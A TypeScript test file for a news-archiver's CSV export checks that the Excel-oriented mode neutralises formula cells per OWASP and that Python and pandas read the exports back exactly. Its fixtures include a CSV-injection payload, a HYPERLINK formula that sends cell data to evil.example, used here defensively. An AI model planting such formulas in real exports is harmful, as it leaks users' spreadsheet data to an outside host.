import { execFile, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCommand } from '../src/cli/export.js';
import { CSV_COLUMNS } from '../src/export/index.js';
import { neutraliseFormula } from '../src/export/excel.js';
import type { ArticleRecord } from '../src/extract/record.js';
import { openArchive, saveArticle, startRun } from '../src/store/index.js';
import { runCli } from './helpers/cli.js';
import { parseCsv } from './helpers/csv.js';

/**
 * The first interpreter that can run `probe`: Debian's python3 may be the one with pandas (python3-pandas) while
 * another python3 comes first on PATH. PyPI is not assumed reachable, so nothing is installed here.
 */
function findPython(probe: string): string | null {
  for (const candidate of [process.env.PYTHON, 'python3', '/usr/bin/python3', 'python']) {
    if (!candidate) continue;
    const r = spawnSync(candidate, ['-c', probe], { encoding: 'utf8', timeout: 20_000 });
    if (r.status === 0) return candidate;
  }
  return null;
}

const pythonCsv = findPython('import csv, json');
const pythonPandas = findPython('import pandas');

/** Reads the file with Python's csv module as the docs say to (newline='') and prints the rows as JSON. */
const CSV_READER = `
import csv, json, sys
with open(sys.argv[1], newline='', encoding=sys.argv[2]) as f:
    rows = list(csv.reader(f))
sys.stdout.write(json.dumps(rows, ensure_ascii=False))
`;
/** pandas with every cell as text, empty cells kept empty: what a notebook reading the export would do. */
const PANDAS_READER = `
import json, sys
import pandas as pd
df = pd.read_csv(sys.argv[1], encoding=sys.argv[2], dtype=str, keep_default_na=False)
sys.stdout.write(json.dumps([list(df.columns)] + df.values.tolist(), ensure_ascii=False))
`;

function runPython(python: string, script: string, file: string, encoding: string): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    execFile(python, ['-c', script, file, encoding], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 }, (err, stdout, stderr) => {
      if (err) reject(new Error(`${python} failed: ${stderr || err.message}`));
      else resolve(JSON.parse(stdout) as string[][]);
    });
  });
}

const TRICKY_BODY =
  'Dòng đầu, có dấu phẩy.\nDòng hai có "ngoặc kép" và ""hai lần"".\r\nDòng ba\rsau CR; Ủy ban nhân dân huyện Tủa Chùa.\n\n' +
  'Đoạn mới – “trích dẫn”, Ðảng viên, tab\there, =1+1 ở giữa không phải công thức.\n';

function record(n: number, overrides: Partial<ArticleRecord>): ArticleRecord {
  return {
    url: `https://tuachua.dienbien.gov.vn/TinTuc/View/bai-${n}`,
    site: 'tuachua.dienbien.gov.vn',
    category: 'Xây dựng Đảng',
    title: `Bài ${n}: Hội nghị "tổng kết", năm 2023`,
    published_at: `2023-08-${String(10 + n).padStart(2, '0')}T09:30:00+07:00`,
    summary: 'Tóm tắt ngắn.',
    body_text: TRICKY_BODY,
    images: [{ url: `https://tuachua.dienbien.gov.vn/img/${n}.jpg`, alt: null, caption: 'Ảnh: "Lễ" kết nạp', sha256: null, size: null }],
    author: 'Thu Trang',
    organization: 'Trung tâm VH - TT - TH huyện',
    related: [],
    extractor: 'kooboo',
    source: 'live' as const,
    archive_url: null,
    fetched_at: '2026-11-26T23:01:02.123Z',
    captured_at: '2026-11-26T23:01:02.123Z',
    content_sha256: String(n).repeat(64).slice(0, 64),
    ...overrides,
  };
}

/** Cells that a spreadsheet would run, one per column where the exporter writes text. */
const RECORDS = [
  record(1, {
    title: '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    author: '+84 215 3845 123',
    organization: '-Phòng Văn hóa',
    category: '@SUM(1+1)',
    summary: '\tTóm tắt bắt đầu bằng tab',
    body_text: `\r${TRICKY_BODY}`,
  }),
  record(2, { summary: null, author: null, organization: null, category: null, images: [] }),
  record(3, { title: 'Tủa Chùa: -5 độ, =không phải công thức ở giữa', body_text: '-Gạch đầu dòng\n- thứ hai' }),
];

/** The CSV cells of a record, written out here from the README's column list, independently of src/export. */
function expectedRow(r: ArticleRecord): string[] {
  const cells: Record<(typeof CSV_COLUMNS)[number], string> = {
    url: r.url,
    site: r.site,
    category: r.category ?? '',
    title: r.title,
    published_at: r.published_at ?? '',
    summary: r.summary ?? '',
    body_text: r.body_text,
    author: r.author ?? '',
    organization: r.organization ?? '',
    image_count: String(r.images.length),
    images: JSON.stringify(r.images),
    related: JSON.stringify(r.related),
    extractor: r.extractor,
    source: r.source,
    archive_url: r.archive_url ?? '',
    fetched_at: r.fetched_at,
    captured_at: r.captured_at,
    content_sha256: r.content_sha256,
  };
  return CSV_COLUMNS.map((c) => cells[c]);
}
/** OWASP: a leading =, +, -, @, tab or carriage return gets an apostrophe in front. */
const excelCell = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);

let dir: string;
let db: string;
let plain: string;
let excel: string;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pa-excel-'));
  db = path.join(dir, 'archive.sqlite');
  const archive = openArchive(db, { create: true });
  const runId = startRun(archive, { seeds: [], now: new Date() });
  for (const r of RECORDS) saveArticle(archive, r, { runId });
  archive.close();
  plain = path.join(dir, 'plain.csv');
  excel = path.join(dir, 'excel.csv');
  const sink = process.stdout;
  expect((await exportCommand({ db, format: 'csv', out: plain }, sink)).count).toBe(RECORDS.length);
  expect((await exportCommand({ db, format: 'csv', excel: true, out: excel }, sink)).count).toBe(RECORDS.length);
});

afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('formula neutralisation', () => {
  it('prefixes exactly the cells OWASP lists', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ['', 'Tủa Chùa', ' =1', 'a=b', "'=1", '1-2', '[{"url":1}]', '\n=1', '＝1']) {
      expect(neutraliseFormula(safe)).toBe(safe);
    }
  });
});

describe('CSV for spreadsheets and for programs', () => {
  it('--excel starts with a BOM and neutralises formula cells; plain CSV is byte-faithful', () => {
    const excelBytes = fs.readFileSync(excel);
    const plainBytes = fs.readFileSync(plain);
    expect([...excelBytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(plainBytes[0]).toBe('u'.charCodeAt(0));
    const want = RECORDS.map(expectedRow);
    expect(parseCsv(plainBytes.toString('utf8'))).toEqual([[...CSV_COLUMNS], ...want]);
    expect(parseCsv(excelBytes.subarray(3).toString('utf8'))).toEqual([[...CSV_COLUMNS], ...want.map((row) => row.map(excelCell))]);
    // The neutralised cells are the ones that needed it, in every column that had one.
    const first = parseCsv(excelBytes.subarray(3).toString('utf8'))[1]!;
    const cell = (name: string) => first[CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number])];
    expect(cell('title')).toBe(`'=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")`);
    expect([cell('author'), cell('organization'), cell('category')]).toEqual(["'+84 215 3845 123", "'-Phòng Văn hóa", "'@SUM(1+1)"]);
    expect(cell('summary')).toBe("'\tTóm tắt bắt đầu bằng tab");
    expect(cell('body_text')).toBe(`'\r${TRICKY_BODY}`);
  });

  it('--excel with --fields, and only for CSV', async () => {
    const out = path.join(dir, 'fields.csv');
    await exportCommand({ db, format: 'csv', excel: true, fields: 'title,author,body_text', out }, process.stdout);
    const rows = parseCsv(fs.readFileSync(out).subarray(3).toString('utf8'));
    expect(rows).toEqual([
      ['title', 'author', 'body_text'],
      ...RECORDS.map((r) => [r.title, r.author ?? '', r.body_text].map(excelCell)),
    ]);
    const cli = await runCli(['export', '--db', db, '--format', 'json', '--excel']);
    expect([cli.code, cli.stdout, cli.stderr]).toEqual([1, '', 'portal-archiver: --excel applies only to csv, not json\n']);
  });

  describe.skipIf(!pythonCsv)(`read by Python's csv module (${pythonCsv ?? 'skipped: no python3 found'})`, () => {
    it('plain CSV: every cell, multi-line bodies with quotes and CRs included, reads back exactly', async () => {
      const rows = await runPython(pythonCsv!, CSV_READER, plain, 'utf-8');
      expect(rows).toEqual([[...CSV_COLUMNS], ...RECORDS.map(expectedRow)]);
      expect(rows[1]![CSV_COLUMNS.indexOf('body_text')]).toBe(`\r${TRICKY_BODY}`);
    });

    it('--excel: the BOM is read as the encoding mark, Vietnamese intact, formula cells neutralised', async () => {
      const rows = await runPython(pythonCsv!, CSV_READER, excel, 'utf-8-sig');
      expect(rows[0]![0]).toBe('url');
      expect(rows).toEqual([[...CSV_COLUMNS], ...RECORDS.map((r) => expectedRow(r).map(excelCell))]);
    });
  });

  describe.skipIf(!pythonPandas)(`read by pandas (${pythonPandas ?? 'skipped: no python3 with pandas (Debian: apt-get install python3-pandas)'})`, () => {
    it('plain CSV reads back exactly, multi-line bodies included', async () => {
      const rows = await runPython(pythonPandas!, PANDAS_READER, plain, 'utf-8');
      expect(rows).toEqual([[...CSV_COLUMNS], ...RECORDS.map(expectedRow)]);
    });

    it('--excel reads with Vietnamese intact and formula cells neutralised', async () => {
      const rows = await runPython(pythonPandas!, PANDAS_READER, excel, 'utf-8-sig');
      expect(rows).toEqual([[...CSV_COLUMNS], ...RECORDS.map((r) => expectedRow(r).map(excelCell))]);
      expect(rows[1]![CSV_COLUMNS.indexOf('body_text')]).toContain('Ủy ban nhân dân huyện Tủa Chùa');
    });
  });
});
